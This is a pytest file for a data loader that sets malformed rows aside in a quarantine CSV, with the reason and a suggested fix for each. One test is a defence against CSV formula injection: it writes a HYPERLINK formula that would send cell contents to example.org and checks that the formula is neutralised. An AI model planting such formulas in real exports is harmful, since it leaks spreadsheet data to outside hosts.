"""Bad rows: each kind of badness, set aside with its place and reason, and the rest loaded."""

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from tertius.errors import DataError, InputError
from tertius.loading.loader import BadRow, RawRow, Shaped
from tertius.loading.quarantine import COLUMNS, SHOWN, Quarantine, bad_row
from tertius.model.entities import Entity
from tertius.model.kinds import EntityType

Graph = Any
MadeUp = Any


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_each_bad_row_is_set_aside_and_the_rest_is_loaded(graph: Graph, alpha: MadeUp) -> None:
    items = [
        *alpha.entities("p1", "o1"),  # lines 2, 3
        alpha.claim("good", "LEADS", "p1", "o1"),
        alpha.claim("unknown entity", "LEADS", "p9", "o1"),
        alpha.claim("swapped", "LEADS", "o1", "p1"),
        alpha.claim("no such kind", "MARRIED_TO", "p1", "o1"),
        InputError("'2012-13' is no date", where="row", next_step="Write EDTF."),
        BadRow("made-up.csv", 9, "name", "\\xff", "not UTF-8", "Save it as UTF-8.", {"name": "\\xff"}),
        alpha.claim("good", "LEADS", "p1", "o1", hedge="possible"),  # the id again
        Entity("x:p1", EntityType.PLACE),  # another type
        alpha.claim("far too long", "NAME", "p1", "x" * 2001),
        alpha.claim("\ud83d", "NAME", "p1", "half"),
        alpha.claim("of somebody else", "NAME", "p1", "Ali").__class__(
            source="beta", record="b", kind="NAME", about=(("subject", "x:p1"),), value="Ali"
        ),
        KeyError("a column that the loader did not foresee"),
        alpha.claim("last", "NAME", "p1", "Ali"),
    ]
    report = graph.load(alpha.document(items), batch=3)

    assert (report.rows, report.bad_rows, report.new) == (15, 11, 2)
    assert report.quarantine is not None
    found = read(report.quarantine)
    assert tuple(found[0]) == COLUMNS
    assert sorted((int(row["line"]), row["column"], row["reason"][:25]) for row in found) == [
        (5, "subject", "There is no entity x:p9"),
        (6, "subject", "The subject of LEADS is a"),
        (7, "kind", "There is no kind 'MARRIED"),
        (8, "row", "'2012-13' is no date"),
        (9, "name", "not UTF-8"),
        (10, "claim_id", "The claim 'good' is there"),
        (11, "type", "x:p1 is a Person already,"),
        (12, "value", "The value has 2001 charac"),
        (13, "record", "The record holds half a c"),
        (14, "source", "The claim is one of beta,"),
        (15, "", "The loader cannot shape t"),
    ]
    assert all(row["file"] == "made-up.csv" and row["next_step"] for row in found)
    assert json.loads(next(row["row"] for row in found if row["line"] == "8")) == {"row": "6"}
    assert next(row["value"] for row in found if row["line"] == "8") == "6"
    assert graph.ties() == {("p1", "LEADS", "o1"): 0.95}  # the first of the two, not the second
    assert graph.value("MATCH (e {id: 'x:p1'}) RETURN e.name") == "Ali"


def test_a_row_stands_or_falls_as_one(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(
        entities=tuple(alpha.entities("p1", "o1")),
        claims=(alpha.claim("a", "LEADS", "p1", "o1"), alpha.claim("b", "LEADS", "o1", "p1")),
    )
    report = graph.load(alpha.document([row, alpha.claim("c", "NAME", "p1", "Ali")]))
    assert (report.bad_rows, report.new, report.entities) == (2, 0, 0)
    assert graph.value("MATCH (e:Entity) RETURN count(e)") == 0


def test_two_types_in_one_row(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(entities=(alpha.entity("p1"), Entity("x:p1", EntityType.EVENT)))
    assert graph.load(alpha.document([row])).bad[0].column == "type"


def test_two_claims_of_one_id_in_one_row(graph: Graph, alpha: MadeUp) -> None:
    row = Shaped(
        entities=(alpha.entity("p1"),),
        claims=(alpha.claim("a", "NAME", "p1", "Ali"), alpha.claim("a", "NAME", "p1", "Aly")),
    )
    assert graph.load(alpha.document([row])).bad[0].column == "claim_id"


def test_no_file_without_a_bad_row(graph: Graph, alpha: MadeUp, tmp_path: Path) -> None:
    report = graph.load(alpha.document([alpha.entity("p1")]), quarantine=tmp_path / "none.csv")
    assert report.quarantine is None
    assert not (tmp_path / "none.csv").exists()


def test_by_default_the_file_is_named_after_the_release(
    graph: Graph, alpha: MadeUp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    report = graph.load(alpha.document([InputError("odd")], version="23/1"), quarantine=None)
    assert report.quarantine == Path("alpha@23_1.bad-rows.csv")
    assert len(read(report.quarantine)) == 1


def test_a_report_shows_the_first_and_the_file_has_all(tmp_path: Path) -> None:
    with Quarantine(tmp_path / "deep" / "bad.csv") as quarantine:
        for line in range(SHOWN + 5):
            quarantine.add(BadRow("f.csv", line, "c", "v\n,\"'", "r", "n", {"c": "v", "é": "\udcff"}))
        assert quarantine.count == SHOWN + 5
        assert len(quarantine.first) == SHOWN
    found = read(tmp_path / "deep" / "bad.csv")
    assert len(found) == SHOWN + 5
    assert found[3]["value"] == "v\n,\"'"
    assert json.loads(found[3]["row"].replace("\\udcff", ""))["c"] == "v"


def test_no_text_of_a_bad_row_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1, "open")'
    with Quarantine(tmp_path / "bad.csv") as quarantine:
        quarantine.add(BadRow("=f.csv", 2, "@c", formula, "+reason", "-next", {"@c": formula}))
        quarantine.add(BadRow("f.csv", 3, "lat", "-14.5", "r", "n", {"lat": "-14.5"}))
    first, second = read(tmp_path / "bad.csv")
    assert [cell for cell in first.values() if cell[0] in "=+-@\t\r"] == []
    assert first["value"] == f"'{formula}"
    assert first["line"] == "2"
    assert json.loads(first["row"]) == {"@c": formula}
    assert second["value"] == "-14.5"  # a plain number is none


def test_a_file_that_cannot_be_written_stops_the_load(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("in the way")
    with Quarantine(tmp_path / "file" / "bad.csv") as quarantine, pytest.raises(DataError, match="set aside"):
        quarantine.add(BadRow("f.csv", 1, "", "", "r", "n"))


def test_the_value_is_that_of_the_column() -> None:
    raw = RawRow("f.csv", 7, {"when": "2012-13", "claim_id": "c1"})
    bad = bad_row(raw, InputError("no date", where="when", next_step="write one"))
    assert (bad.line, bad.column, bad.value, bad.reason, bad.row["claim_id"]) == (7, "when", "2012-13", "no date", "c1")
